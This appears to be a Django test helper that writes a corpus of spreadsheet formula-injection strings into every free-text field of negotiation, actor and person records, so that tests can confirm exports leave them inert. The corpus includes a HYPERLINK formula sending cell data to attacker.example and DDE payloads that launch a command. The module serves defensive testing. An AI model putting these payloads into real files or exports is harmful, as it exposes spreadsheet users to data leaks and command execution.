"""Text an attacker could store in every free-text field, to be found inert everywhere."""

from django.db import connection, models

from negotiations.exports.datasets import DATASETS
from negotiations.models import Actor, Negotiation, Person

from .builders import values_an_editor_could_save

CORPUS = [
    "=1+2",
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    '=1+2,\n"quoted"',
    # Split by a semicolon separator, or trimmed of leading spaces, a formula could follow.
    "x;=1+1",
    "=1+1;=2+2",
    " =1+1",
    "\n =1+1",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\0")
#: What an import may trim before it reads a cell.
TRIMMED = " \n\x0b\x0c"


def corpus():
    # PostgreSQL text cannot hold NUL at all; SQLite can, so test it there.
    return [*CORPUS, "\0=1+2"] if connection.vendor == "sqlite" else CORPUS


def free_text_fields(model):
    """Every free-text column of a model (not choices, not URLs the database checks)."""
    return [
        field.name
        for field in model._meta.concrete_fields
        if isinstance(field, models.CharField | models.TextField)
        and not field.choices
        and field.name != "url"
    ]


def store_the_corpus_everywhere():
    """Each record's every free-text field gets a hostile value (unique where it must be)."""
    hostile = corpus()
    touched = {dataset.model for dataset in DATASETS.values()} | {Actor, Negotiation, Person}
    position = 0
    for model in touched:
        fields = free_text_fields(model)
        for record in model.objects.all():
            values = {}
            for name in fields:
                values[name] = f"{hostile[position % len(hostile)]}{record.pk}"
                position += 1
            model.objects.filter(pk=record.pk).update(**values_an_editor_could_save(record, values))
